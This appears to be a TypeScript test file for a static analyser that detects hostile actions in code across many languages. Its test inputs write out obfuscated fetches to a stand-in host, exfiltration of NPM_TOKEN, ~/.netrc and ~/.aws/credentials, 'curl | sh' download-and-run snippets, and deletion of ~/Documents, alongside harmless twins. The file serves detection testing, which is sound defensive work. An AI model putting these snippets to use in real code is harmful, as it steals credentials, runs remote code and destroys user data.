/** The same deed spelled in other ways, each beside an innocent twin. Nothing here is run; dangerous words are put together. */
import { actionsOf } from "../calls/actions-of.ts";

const RUN = ["ev", "al"].join("");
const EXEC = ["ex", "ec"].join("");
const ADDRESS = "https://a.example/x";
const shifted = (text: string, by: number) => [...text].map((one) => one.charCodeAt(0) + by).join(",");
const escaped = (text: string) => [...text].map((one) => `\\x${one.charCodeAt(0).toString(16)}`).join("");

test.each([
  [
    "a.mjs",
    `await fetch("${shifted(ADDRESS, 3)}".split(",").map((code) => String.fromCharCode(Number(code) - 3)).join(""));\n`,
  ],
  ["a.py", `import requests\nrequests.get("".join(chr(int(c) - 3) for c in "${shifted(ADDRESS, 3)}".split(",")))\n`],
  [
    "a.rb",
    `require "net/http"\nNet::HTTP.get(URI("${shifted(ADDRESS, 3)}".split(",").map { |c| (c.to_i - 3).chr }.join))\n`,
  ],
  [
    "a.kts",
    `java.net.URL("${shifted(ADDRESS, 3)}".split(",").map { (it.toInt() - 3).toChar() }.joinToString("")).readText()\n`,
  ],
  [
    "a.ps1",
    `Invoke-WebRequest -Uri (-join ('${shifted(ADDRESS, 4)}' -split ',' | ForEach-Object { [char]([int]$_ - 4) }))\n`,
  ],
  ["b.ps1", `Invoke-WebRequest -Uri ([regex]::Unescape('${escaped(ADDRESS)}'))\n`],
  [
    "a.rs",
    `fn main() { let _ = ureq::get(&"${shifted(ADDRESS, 0).replaceAll(",", " ")}".split(' ').filter_map(|c| c.parse::<u8>().ok()).map(|c| (c ^ 0) as char).collect::<String>()).call(); }\n`,
  ],
])("%s: numbers that are shifted back are letters", async (path, text) => {
  expect((await actionsOf(path, text)).join()).toContain("fetch a.example");
});

test("a difference of numbers that nobody knows is no text", async () => {
  expect(await actionsOf("a.mjs", "export const age = (now) => Number(now) - 3;\n")).toEqual([]);
  expect(await actionsOf("a.ps1", "$n = $a - 3\nWrite-Output $n\n")).toEqual([]);
});

test.each([
  [
    "a.php",
    `<?php\n$g = 'getenv';\n$f = 'file_get_contents';\n$f('${ADDRESS}', false, stream_context_create(['http' => ['content' => json_encode($g())]]));\n`,
    "environment",
  ],
  [
    "a.sh",
    `printenv NPM_TOKEN | python3 -c "import sys, urllib.request as r; r.urlopen('${ADDRESS}', sys.stdin.buffer.read())"\n`,
    "environment:NPM_TOKEN",
  ],
  [
    "a.rb",
    `require "faraday"\nrecord = Pathname.new(Dir.home).join(".netrc").read\nFaraday.post("${ADDRESS}", record)\n`,
    "credential-file",
  ],
  [
    "a.groovy",
    `def detail = java.nio.file.Path.of(System.getenv('HOME'), '.aws/credentials').text\nnew URL('${ADDRESS}?q=' + detail).text\n`,
    "credential-file",
  ],
  [
    "settings.gradle.kts",
    `val a = providers.environmentVariable("NPM_TOKEN").getOrElse("")\njava.net.URL("${ADDRESS}?q=" + a).readText()\n`,
    "environment:NPM_TOKEN",
  ],
  [
    "a.go",
    `package a\nimport ("net/http"; "os"; "slices"; "strings")\nfunc back(text string) string { letters := []rune(text); slices.Reverse(letters); return string(letters) }\nfunc init() { http.Post("${ADDRESS}", "text/plain", strings.NewReader(os.Getenv(back("NEKOT_MPN")))) }\n`,
    "environment:NPM_TOKEN",
  ],
])("%s sends what it reads in a roundabout way", async (path, text, origin) => {
  const sent = (await actionsOf(path, text)).filter((one) => one.includes("a.example"));
  expect(sent.join()).toContain(origin);
});

test.each([
  ["a.php", `<?php\n$p = File_Get_ContENTS('HTTPS://A.EXAMPLE/x');\nShell_EXEC($p);\n`, "fetched:a.example"],
  ["b.php", `<?php\nproc_open(['sh', '-c', 'curl ${ADDRESS} | sh'], [], $pipes);\n`, "fetched:a.example"],
  [
    "a.py",
    `import requests, runpy, tempfile\npath = tempfile.mkstemp(suffix=".py")[1]\nopen(path, "w").write(requests.get("${ADDRESS}").text)\nrunpy.run_path(path)\n`,
    "fetched:a.example",
  ],
  ["a.pl", `open(my $pipe, '|-', 'sh') && print {$pipe} ('curl ${ADDRESS} | sh');\n`, "fetched:a.example"],
  ["a.groovy", `Runtime.runtime.${EXEC}(['bash', '-c', 'curl ${ADDRESS} | sh'] as String[])\n`, "fetched:a.example"],
  [
    "A.java",
    `class A { static { Runtime.getRuntime().${EXEC}(new String[] {"jshell", "-s", new String(new java.net.URL("${ADDRESS}").openStream().readAllBytes())}); } }\n`,
    "fetched:a.example",
  ],
  [
    "a.mjs",
    `await import("data:text/javascript;base64," + Buffer.from("fetch('${ADDRESS}').then((r) => r.text()).then(${RUN})").toString("base64"));\n`,
    "fetched:a.example",
  ],
])("%s runs what it downloads", async (path, text, origin) => {
  const ran = (await actionsOf(path, text)).filter((one) => /^(?:run|load|evaluate) /.test(one));
  expect(ran.join()).toContain(origin);
});

test("files below a walk are deleted by a function that is handed to it", async () => {
  const java = (folder: string) =>
    `import java.nio.file.*;\nclass A { static { Files.walk(Path.of(${folder})).forEach(one -> one.toFile().delete()); } }\n`;
  expect(await actionsOf("A.java", java('System.getProperty("user.home") + "/Documents"'))).toEqual([
    "delete ~/Documents by File.delete <- files:~/Documents",
  ]);
  expect((await actionsOf("B.java", java('"build/tmp"'))).join()).not.toContain("~");
});

test("a pipe to another program and a process with its words stay what they are", async () => {
  expect(
    await actionsOf("a.pl", "open(my $pipe, '|-', 'less') && print {$pipe} ('curl is a tool | sh is a shell');\n"),
  ).not.toContain("fetched");
  expect(await actionsOf("a.php", "<?php\nproc_open(['ls', '-l'], [], $pipes);\necho getenv('HOME');\n")).toEqual([]);
});
